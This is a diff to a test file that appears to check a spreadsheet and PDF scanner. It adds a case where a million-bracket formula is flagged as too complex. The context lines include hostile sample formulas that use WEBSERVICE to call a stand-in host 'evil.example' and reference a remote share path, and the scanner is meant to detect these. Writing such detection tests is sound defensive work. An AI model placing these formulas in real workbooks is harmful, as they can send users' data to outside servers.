@@ -55,6 +55,7 @@ test.each<[string, Uint8Array, string]>([
   ['a function after a name with a quote', formula(`'a"'!A1&amp;WEBSERVICE("http://evil.example")`), 'data_connection'],
   ['a function after a column with a quote', formula('T[a"]&amp;WEBSERVICE("http://evil.example")'), 'data_connection'],
   ['a function as an argument', formula('MAP(A1:A2,_xleta.WEBSERVICE)'), 'data_connection'],
+  ['a formula of a million brackets', formula('['.repeat(1_000_000)), 'too_complex'],
   ['another workbook by its path', formula(`'\\\\evil\\share\\[x.xlsx]Plan'!A1`), 'data_connection'],
   ['a PDF with a certificate', encrypted('/Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5'), 'encrypted'],
   [
